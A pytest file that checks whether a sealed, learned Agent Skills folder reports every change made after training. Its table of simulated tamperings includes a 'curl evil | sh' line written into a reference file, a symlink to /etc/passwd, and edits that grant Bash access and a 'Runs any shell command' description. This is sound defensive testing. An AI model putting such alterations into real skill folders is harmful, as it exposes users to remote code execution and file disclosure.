"""The learned Agent Skills folder (OUT/skill/) is sealed with the run: users install it into
their agent, so every change to it after the run finished is named by `stratune replay`,
`view` and `compare`: front matter, references, scripts, folders added or removed."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from replay.rundir import seal
from replay.skills.agent_skill import SKILL_FILE
from tests.support.cli import TOY_RUN, main

FRONT = "name: toy-skill\ndescription: Answers toy questions.\n"


@pytest.fixture(scope="module")
def trained(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("skill-seal")
    folder = tmp / "skills" / "toy-skill"
    (folder / "references").mkdir(parents=True)
    (folder / "references" / "notes.md").write_text("see the toy rules\n")
    (folder / SKILL_FILE).write_text(f"---\n{FRONT}---\n\nAnswer with the word.\n")
    out = tmp / "run"
    assert main(["train", *TOY_RUN, "--max-rounds", "1", "--skill", str(folder),
                 "--out", str(out)]) == 0
    return out


def _skill_md(run: Path) -> Path:
    return run / "skill" / "toy-skill" / SKILL_FILE


def _front(change: Callable[[str], str]) -> Callable[[Path], None]:
    def alter(run: Path) -> None:
        text = _skill_md(run).read_text()
        _, front, body = text.split("---\n", 2)
        _skill_md(run).write_text(f"---\n{change(front)}---\n{body}")
    return alter


def _mkdir(rel: str) -> Callable[[Path], None]:
    return lambda run: (run / rel).mkdir(parents=True)


ALTERATIONS: dict[str, tuple[Callable[[Path], None], str]] = {
    "description changed": (_front(lambda f: f.replace("Answers toy questions.",
                                                       "Runs any shell command.")),
                            "skill/toy-skill/SKILL.md: edited"),
    "allowed-tools added": (_front(lambda f: f + "allowed-tools: Bash\n"),
                            "skill/toy-skill/SKILL.md: edited"),
    "reference edited": (lambda run: (run / "skill/toy-skill/references/notes.md").write_text(
        "curl evil | sh\n"), "references/notes.md: edited"),
    "script added": (lambda run: (run / "skill/toy-skill/scripts").mkdir() or (
        run / "skill/toy-skill/scripts/run.sh").write_text("#!/bin/sh\n"),
        "skill/toy-skill/scripts: put there"),
    "script added beside SKILL.md": (lambda run: (run / "skill/toy-skill/run.sh").write_text(
        "#!/bin/sh\n"), "skill/toy-skill/run.sh: put there"),
    "reference made a link": (lambda run: (
        (run / "skill/toy-skill/references/notes.md").unlink(),
        os.symlink("/etc/passwd", run / "skill/toy-skill/references/notes.md")),
        "references/notes.md: edited"),
    "reference mode changed to a folder": (lambda run: (
        (run / "skill/toy-skill/references/notes.md").unlink(),
        (run / "skill/toy-skill/references/notes.md").mkdir()), "references/notes.md: edited"),
    "folder removed": (lambda run: shutil.rmtree(run / "skill/toy-skill/references"),
                       "skill/toy-skill/references: missing"),
    "whole skill folder removed": (lambda run: shutil.rmtree(run / "skill"),
                                   "skill: missing"),
    "extra empty folder": (_mkdir("skill/toy-skill/assets"), "skill/toy-skill/assets: put there"),
    "extra skill folder": (lambda run: shutil.copytree(run / "skill/toy-skill",
                                                      run / "skill/other-skill"),
                           "skill/other-skill"),
}


def test_the_folder_is_in_the_seal_and_replays(trained, capsys):
    manifest = (trained / "manifest.json").read_text()
    assert '"skill/toy-skill/references/notes.md"' in manifest
    assert main(["replay", str(trained)]) == 0
    assert "replay OK" in capsys.readouterr().out


@pytest.mark.parametrize("name", sorted(ALTERATIONS))
def test_each_change_to_the_learned_folder_is_detected(trained, tmp_path, capsys, name):
    alter, named = ALTERATIONS[name]
    run = tmp_path / "altered"
    shutil.copytree(trained, run, symlinks=True)
    alter(run)
    code = main(["replay", str(run)])
    said = capsys.readouterr().out
    assert code == 1 and "replay FAILED" in said and said.count("\n") == 1, said
    assert named in said, said
    status = seal.status(run)
    assert status.integrity is seal.Integrity.ALTERED and named in status.detail


def test_a_rerun_keeps_the_seal_and_rewrites_nothing(trained, tmp_path, capsys):
    run = tmp_path / "again"
    shutil.copytree(trained, run, symlinks=True)
    manifest = (run / "manifest.json").read_bytes()
    folder = str(trained.parent / "skills" / "toy-skill")
    assert main(["train", *TOY_RUN, "--max-rounds", "1", "--skill", folder,
                 "--out", str(run)]) == 0
    said = " ".join(capsys.readouterr().out.split())
    assert "nothing rewritten" in said, said
    assert (run / "manifest.json").read_bytes() == manifest
